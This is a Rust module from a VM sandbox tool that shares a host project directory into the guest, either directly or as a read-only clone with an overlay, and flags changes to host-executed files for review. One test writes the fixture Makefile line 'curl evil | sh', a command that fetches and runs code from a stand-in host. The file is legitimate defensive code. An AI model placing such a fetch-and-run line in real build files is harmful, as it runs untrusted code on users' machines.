//! Workspaces: a host project directory shared into the sandbox at [`GUEST_DIR`]
//! (`bulkhead run --workspace DIR[:direct|:clone]`), in one of two trust levels.
//!
//! - **direct** (the default): `DIR` is shared read-write, exactly like
//!   `--mount DIR:/workspace`; the guest's changes are on the host at once. At start the host
//!   records a snapshot (SHA-256) of the paths in `DIR` that run code implicitly on the host
//!   ([`flags`]); [`diff`] reports how those paths changed since. Direct mode has no record of
//!   other changes: its diff covers only the flagged paths.
//! - **clone**: `DIR` is shared read-only (the VMM's file server refuses every write with
//!   `EROFS`) as the lower layer of an overlay file system the guest agent builds at
//!   [`GUEST_DIR`]; the upper layer is private to the sandbox (on its scratch disk when it has
//!   one, else in guest RAM). Nothing reaches `DIR`. [`diff`] lists what the guest added,
//!   modified and deleted, computed by the agent from the overlay's upper directory and sent
//!   with the `WorkspaceChanges` request (`bulkhead-protocol`'s `workspace` module); [`export`]
//!   turns the change set into a git patch (`git apply` applies it to a copy of `DIR`) or a tar
//!   archive, for the user to review and apply.
//!
//! In both modes every changed path that executes implicitly on the host (git hooks, Makefiles,
//! CI configuration, package.json `scripts`, IDE and coding-agent configuration: [`flags`]) is
//! flagged for review with a reason.
//!
//! What the host keeps in the sandbox's runtime directory: `workspace.json` ([`WorkspaceInfo`]),
//! and for direct mode `workspace-snapshot.json`. Both are read by [`diff`] and [`export`], so
//! they work for sandboxes another process started (a restarted daemon's adopted ones).

mod diff;
pub mod flags;
mod hostfs;
mod patch;
mod receive;
mod snapshot;
mod tar;

use std::fs;
use std::io;
use std::path::{Path, PathBuf};
use std::str::FromStr;

use bulkhead_protocol::boot::Share;
use bulkhead_protocol::client::ClientError;
use bulkhead_vmm::config::ShareConfig;
use serde::{Deserialize, Serialize};

use crate::mounts::{self, Mount, MountError};

pub use diff::{diff, export, Change, ExportFormat, WorkspaceDiff};
pub use receive::Limits;

/// Where the guest sees the workspace.
pub const GUEST_DIR: &str = "/workspace";

/// virtio-fs tag of a clone workspace's read-only share.
pub const WORKSPACE_TAG: &str = "workspace";

/// The workspace description in the runtime directory.
pub const INFO_FILE: &str = "workspace.json";

/// The direct-mode snapshot of flagged paths in the runtime directory.
pub const SNAPSHOT_FILE: &str = "workspace-snapshot.json";

/// How the guest gets the workspace.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum WorkspaceMode {
    /// Shared read-write: changes reach the host directory at once.
    #[default]
    Direct,
    /// Shared read-only under a private overlay: changes stay in the sandbox until exported.
    Clone,
}

impl WorkspaceMode {
    /// `direct` or `clone`.
    pub fn as_str(self) -> &'static str {
        match self {
            WorkspaceMode::Direct => "direct",
            WorkspaceMode::Clone => "clone",
        }
    }
}

/// A host directory to share at [`GUEST_DIR`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Workspace {
    /// The host directory (resolved to an absolute path when the sandbox starts).
    pub host: PathBuf,
    /// Direct or clone.
    pub mode: WorkspaceMode,
}

impl FromStr for Workspace {
    type Err = WorkspaceError;

    /// Parses `DIR`, `DIR:direct` or `DIR:clone` (`DIR` may contain colons).
    fn from_str(s: &str) -> Result<Workspace, WorkspaceError> {
        let (host, mode) = match (s.strip_suffix(":clone"), s.strip_suffix(":direct")) {
            (Some(host), _) => (host, WorkspaceMode::Clone),
            (None, Some(host)) => (host, WorkspaceMode::Direct),
            (None, None) => {
                if let Some(mode) = unknown_mode_suffix(s) {
                    return Err(WorkspaceError::UnknownMode {
                        value: s.to_owned(),
                        mode: mode.to_owned(),
                    });
                }
                (s, WorkspaceMode::Direct)
            }
        };
        if host.is_empty() {
            return Err(WorkspaceError::Syntax(s.to_owned()));
        }
        Ok(Workspace {
            host: PathBuf::from(host),
            mode,
        })
    }
}

/// The `WORD` of `DIR:WORD` when it looks like a mistyped mode: a plain word after the last
/// colon, with `DIR:WORD` not an existing path (a directory may have a colon in its name).
fn unknown_mode_suffix(s: &str) -> Option<&str> {
    let (dir, word) = s.rsplit_once(':')?;
    let plain_word = !word.is_empty() && word.chars().all(|c| c.is_ascii_alphabetic());
    (plain_word && !dir.is_empty() && !Path::new(s).exists()).then_some(word)
}

/// What the runtime directory records about a sandbox's workspace.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct WorkspaceInfo {
    /// The host directory, absolute.
    pub host: PathBuf,
    /// Where the guest sees it.
    pub guest: PathBuf,
    /// Direct or clone.
    pub mode: WorkspaceMode,
}

/// Invalid workspaces and failures of diff and export.
#[derive(Debug, thiserror::Error)]
pub enum WorkspaceError {
    /// The value of `--workspace` is malformed.
    #[error("--workspace `{0}` is not DIR[:direct|:clone]")]
    Syntax(String),
    /// `DIR:WORD` where WORD is neither `direct` nor `clone` and `DIR:WORD` does not exist.
    #[error("--workspace `{value}`: unknown mode `{mode}` (use DIR:direct or DIR:clone)")]
    UnknownMode {
        /// The whole value.
        value: String,
        /// The word after the last colon.
        mode: String,
    },
    /// The directory is unusable (missing, not a directory, root-owned for a direct share).
    #[error("workspace: {0}")]
    Dir(MountError),
    /// A direct workspace of a root-owned directory while running as root: the guest's files
    /// would belong to host root.
    #[error(
        "refusing to share {} read-write: bulkhead runs as root and the directory is owned by \
         root, so the guest's files would belong to host root; chown it to an unprivileged user \
         or use :clone",
        .0.display()
    )]
    RootOwned(PathBuf),
    /// A `--mount` would be hidden by, or leak into, the clone workspace.
    #[error("mount target {} is inside the clone workspace {GUEST_DIR}; mount it elsewhere", .0.display())]
    MountInside(PathBuf),
    /// The sandbox has no workspace.
    #[error("the sandbox has no workspace (start it with --workspace DIR[:clone])")]
    None,
    /// Export needs a clone workspace.
    #[error(
        "the sandbox has a direct workspace: its changes are already in {}; `diff` lists the \
         flagged paths",
        .0.display()
    )]
    DirectExport(PathBuf),
    /// Talking to the guest agent failed.
    #[error("workspace change set: {0}")]
    Agent(#[from] ClientError),
    /// The agent sent something that is not a valid change set.
    #[error("invalid change set from the guest: {0}")]
    Protocol(String),
    /// The change set is larger than the limits.
    #[error("the change set is too large: {0}")]
    TooLarge(String),
    /// A host file operation failed.
    #[error("{op} {}: {source}", path.display())]
    Io {
        /// What was attempted.
        op: &'static str,
        /// The path.
        path: PathBuf,
        /// The OS error.
        source: io::Error,
    },
}

pub(crate) fn io_err<'a>(
    op: &'static str,
    path: &'a Path,
) -> impl FnOnce(io::Error) -> WorkspaceError + 'a {
    move |source| WorkspaceError::Io {
        op,
        path: path.to_owned(),
        source,
    }
}

/// What a workspace adds to the VM.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Prepared {
    /// Direct mode: a read-write mount at [`GUEST_DIR`], added to the other mounts.
    pub mount: Option<Mount>,
    /// Clone mode: the read-only share.
    pub share: Option<ShareConfig>,
    /// Clone mode: the agent's `bulkhead.workspace=` boot parameter.
    pub param: Option<Share>,
    /// What to record in the runtime directory.
    pub info: Option<WorkspaceInfo>,
}

impl Prepared {
    /// The VM's virtio-fs devices and the agent's `bulkhead.mount=` parameters for `mounts`
    /// together with this workspace: the mounts and a direct workspace's mount
    /// ([`mounts::prepare`], tags `mount0`...), then a clone workspace's share.
    ///
    /// # Errors
    /// The errors of [`mounts::prepare`].
    pub(crate) fn shares_with(&self, mounts: &[Mount]) -> Result<mounts::Prepared, MountError> {
        let mut all = mounts.to_vec();
        all.extend(self.mount.clone());
        let mut prepared = mounts::prepare(&all)?;
        prepared.shares.extend(self.share.clone());
        Ok(prepared)
    }
}

/// Checks `workspace` together with the sandbox's other `mounts` (before anything starts) and
/// returns what it adds to the VM.
///
/// # Errors
/// [`WorkspaceError::Dir`] for an unusable directory (or a direct workspace colliding with a
/// mount), [`WorkspaceError::MountInside`] for a mount inside a clone workspace.
pub fn check(workspace: Option<&Workspace>, mounts: &[Mount]) -> Result<(), WorkspaceError> {
    prepare(workspace, mounts).map(drop)
}

pub(crate) fn prepare(
    workspace: Option<&Workspace>,
    mounts: &[Mount],
) -> Result<Prepared, WorkspaceError> {
    let Some(workspace) = workspace else {
        return Ok(Prepared::default());
    };
    let guest = PathBuf::from(GUEST_DIR);
    let as_mount = Mount {
        host: workspace.host.clone(),
        guest: guest.clone(),
        read_only: workspace.mode == WorkspaceMode::Clone,
    };
    let resolved = match workspace.mode {
        WorkspaceMode::Direct => {
            // Checked with the other mounts, so the same guest path twice is an error.
            let mut all = mounts.to_vec();
            all.push(as_mount);
            mounts::check(&all)
                .map_err(|e| match e {
                    MountError::RootOwned(path) => WorkspaceError::RootOwned(path),
                    other => WorkspaceError::Dir(other),
                })?
                .remove(mounts.len())
        }
        WorkspaceMode::Clone => {
            if let Some(inside) = mounts
                .iter()
                .map(|m| m.guest.as_path())
                .find(|g| g.starts_with(GUEST_DIR))
            {
                return Err(WorkspaceError::MountInside(inside.to_owned()));
            }
            mounts::check(&[as_mount])
                .map_err(WorkspaceError::Dir)?
                .remove(0)
        }
    };
    let info = WorkspaceInfo {
        host: resolved.host.clone(),
        guest,
        mode: workspace.mode,
    };
    Ok(match workspace.mode {
        WorkspaceMode::Direct => Prepared {
            mount: Some(resolved),
            info: Some(info),
            ..Prepared::default()
        },
        WorkspaceMode::Clone => Prepared {
            share: Some(ShareConfig {
                tag: WORKSPACE_TAG.to_owned(),
                path: resolved.host,
                read_only: true,
                owner: None,
                follow_host_mounts: false,
            }),
            param: Some(Share {
                tag: WORKSPACE_TAG.to_owned(),
                guest_dir: PathBuf::from(GUEST_DIR),
                read_only: false,
            }),
            info: Some(info),
            mount: None,
        },
    })
}

/// Writes `workspace.json` (and, for a direct workspace, the snapshot of its flagged paths)
/// into the sandbox's runtime directory `dir`. A restore passes the snapshot's directory as
/// `kept`: where it holds the same workspace's records ([`keep`]), the flagged paths' snapshot
/// is the one taken when the sandbox started, so a diff after a pause and resume still covers
/// the changes made before it.
pub(crate) fn record(
    dir: &Path,
    prepared: &Prepared,
    kept: Option<&Path>,
) -> Result<(), WorkspaceError> {
    let Some(info) = &prepared.info else {
        return Ok(());
    };
    if info.mode == WorkspaceMode::Direct {
        let baseline = kept
            .filter(|kept| self::info(kept).ok().flatten().as_ref() == Some(info))
            .map(|kept| kept.join(SNAPSHOT_FILE))
            .filter(|path| path.is_file());
        match baseline {
            Some(path) => {
                let target = dir.join(SNAPSHOT_FILE);
                fs::copy(&path, &target).map_err(io_err("copy", &target))?;
            }
            None => write_json(&dir.join(SNAPSHOT_FILE), &snapshot::take(&info.host))?,
        }
    }
    write_json(&dir.join(INFO_FILE), info)
}

/// Copies the workspace records of the runtime directory `runtime` (if any) into `to`, a
/// snapshot's directory, for [`record`] at its restore.
pub(crate) fn keep(runtime: &Path, to: &Path) -> Result<(), WorkspaceError> {
    for name in [INFO_FILE, SNAPSHOT_FILE] {
        let from = runtime.join(name);
        if from.is_file() {
            let target = to.join(name);
            fs::copy(&from, &target).map_err(io_err("copy", &target))?;
        }
    }
    Ok(())
}

/// The workspace recorded in the runtime directory `dir`, if any.
///
/// # Errors
/// [`WorkspaceError::Io`] when the file exists but cannot be read or parsed.
pub fn info(dir: &Path) -> Result<Option<WorkspaceInfo>, WorkspaceError> {
    let path = dir.join(INFO_FILE);
    match fs::read(&path) {
        Ok(bytes) => serde_json::from_slice(&bytes)
            .map(Some)
            .map_err(|e| io_err("parse", &path)(io::Error::other(e))),
        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(io_err("read", &path)(e)),
    }
}

/// `path` for display, C-quoted as git quotes odd names (control characters, newlines, `"`,
/// `\`, non-ASCII), so a guest-chosen name cannot forge output lines or terminal escapes.
pub fn quote_path(path: &str) -> String {
    patch::quote("", path)
}

fn write_json(path: &Path, value: &impl Serialize) -> Result<(), WorkspaceError> {
    let json =
        serde_json::to_vec(value).map_err(|e| io_err("encode", path)(io::Error::other(e)))?;
    fs::write(path, json).map_err(io_err("write", path))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mounts::tests::shareable_dir;

    #[test]
    fn workspace_flags_parse_a_directory_and_a_mode() {
        // Arrange / Act
        let plain: Workspace = "/src/app".parse().unwrap();
        let clone: Workspace = "/src/a:b:clone".parse().unwrap();
        let direct: Workspace = "/src:direct".parse().unwrap();

        // Assert
        assert_eq!(plain.mode, WorkspaceMode::Direct);
        assert_eq!(
            clone,
            Workspace {
                host: "/src/a:b".into(),
                mode: WorkspaceMode::Clone
            }
        );
        assert_eq!(direct.host, PathBuf::from("/src"));
        assert!(":clone".parse::<Workspace>().is_err());
    }

    #[test]
    fn a_mistyped_mode_is_an_error_unless_the_whole_value_is_a_directory() {
        // Arrange: a directory whose name ends in a colon and a word.
        let base = tempfile::tempdir().unwrap();
        let colon_dir = base.path().join("build:old");
        fs::create_dir(&colon_dir).unwrap();
        let typo = format!("{}:clnoe", base.path().display());

        // Act
        let err = typo.parse::<Workspace>().unwrap_err();
        let existing: Workspace = colon_dir.to_str().unwrap().parse().unwrap();

        // Assert
        assert!(err.to_string().contains("unknown mode `clnoe`"), "{err}");
        assert_eq!(existing.host, colon_dir);
        assert_eq!(existing.mode, WorkspaceMode::Direct);
    }

    #[test]
    fn a_clone_workspace_is_a_read_only_share_and_an_agent_parameter() {
        // Arrange
        let dir = tempfile::tempdir().unwrap();
        let ws = Workspace {
            host: dir.path().to_owned(),
            mode: WorkspaceMode::Clone,
        };

        // Act
        let prepared = prepare(Some(&ws), &[]).unwrap();

        // Assert
        let share = prepared.share.unwrap();
        assert!(share.read_only);
        assert_eq!(share.tag, WORKSPACE_TAG);
        assert_eq!(share.path, dir.path().canonicalize().unwrap());
        assert_eq!(
            prepared.param,
            Some(Share {
                tag: "workspace".into(),
                guest_dir: "/workspace".into(),
                read_only: false
            })
        );
        assert!(prepared.mount.is_none());
    }

    #[test]
    fn a_restore_keeps_the_flagged_paths_baseline_of_the_same_workspace_only() {
        // Arrange: a direct workspace recorded at start, its Makefile changed afterwards.
        let project = shareable_dir();
        fs::write(project.path().join("Makefile"), "all:\n").unwrap();
        let ws = Workspace {
            host: project.path().to_owned(),
            mode: WorkspaceMode::Direct,
        };
        let prepared = prepare(Some(&ws), &[]).unwrap();
        let dirs: Vec<tempfile::TempDir> = (0..4).map(|_| tempfile::tempdir().unwrap()).collect();
        let (first, snapshot, resumed, fresh) = (&dirs[0], &dirs[1], &dirs[2], &dirs[3]);
        record(first.path(), &prepared, None).unwrap();
        fs::write(project.path().join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();

        // Act
        keep(first.path(), snapshot.path()).unwrap();
        record(resumed.path(), &prepared, Some(snapshot.path())).unwrap();
        record(fresh.path(), &prepared, Some(fresh.path())).unwrap();

        // Assert
        let baseline = |dir: &tempfile::TempDir| fs::read(dir.path().join(SNAPSHOT_FILE)).unwrap();
        assert_eq!(
            baseline(resumed),
            baseline(first),
            "the start's baseline is kept"
        );
        assert_ne!(
            baseline(fresh),
            baseline(first),
            "no kept records: a new baseline"
        );
    }

    #[test]
    fn a_direct_workspace_is_a_read_write_mount_checked_with_the_others() {
        // Arrange
        let dir = shareable_dir();
        let ws = Workspace {
            host: dir.path().to_owned(),
            mode: WorkspaceMode::Direct,
        };
        let clash = Mount {
            host: dir.path().to_owned(),
            guest: GUEST_DIR.into(),
            read_only: true,
        };

        // Act
        let prepared = prepare(Some(&ws), &[]).unwrap();
        let err = prepare(Some(&ws), &[clash]).unwrap_err();

        // Assert
        let mount = prepared.mount.unwrap();
        assert!(!mount.read_only && mount.guest == Path::new(GUEST_DIR));
        assert!(prepared.share.is_none() && prepared.param.is_none());
        assert!(err.to_string().contains("given twice"), "{err}");
    }

    #[test]
    fn mounts_inside_a_clone_workspace_and_missing_directories_are_refused() {
        // Arrange
        let dir = tempfile::tempdir().unwrap();
        let inner = Mount {
            host: dir.path().to_owned(),
            guest: "/workspace/cache".into(),
            read_only: true,
        };
        let clone = |host: PathBuf| Workspace {
            host,
            mode: WorkspaceMode::Clone,
        };

        // Act
        let inside = prepare(Some(&clone(dir.path().to_owned())), &[inner]).unwrap_err();
        let missing = prepare(Some(&clone(dir.path().join("nope"))), &[]).unwrap_err();

        // Assert
        assert!(matches!(inside, WorkspaceError::MountInside(_)), "{inside}");
        assert!(missing.to_string().contains("does not exist"), "{missing}");
    }

    #[test]
    fn root_is_told_to_use_a_clone_for_a_root_owned_directory_needs_root() {
        // Arrange
        crate::testing::require_root();
        let dir = tempfile::tempdir().unwrap();
        let ws = |mode| Workspace {
            host: dir.path().to_owned(),
            mode,
        };

        // Act
        let direct = prepare(Some(&ws(WorkspaceMode::Direct)), &[]).unwrap_err();
        let clone = prepare(Some(&ws(WorkspaceMode::Clone)), &[]);

        // Assert
        assert!(matches!(direct, WorkspaceError::RootOwned(_)), "{direct}");
        assert!(direct.to_string().contains(":clone"), "{direct}");
        assert!(clone.is_ok());
    }

    #[test]
    fn the_runtime_directory_records_the_workspace() {
        // Arrange
        let run = tempfile::tempdir().unwrap();
        let project = shareable_dir();
        std::fs::write(project.path().join("Makefile"), "all:\n").unwrap();
        let ws = Workspace {
            host: project.path().to_owned(),
            mode: WorkspaceMode::Direct,
        };
        let prepared = prepare(Some(&ws), &[]).unwrap();

        // Act
        record(run.path(), &prepared, None).unwrap();

        // Assert
        let info = info(run.path()).unwrap().unwrap();
        assert_eq!(info.mode, WorkspaceMode::Direct);
        assert_eq!(info.host, project.path().canonicalize().unwrap());
        assert!(run.path().join(SNAPSHOT_FILE).is_file());
        assert_eq!(super::info(project.path()).unwrap(), None);
    }
}
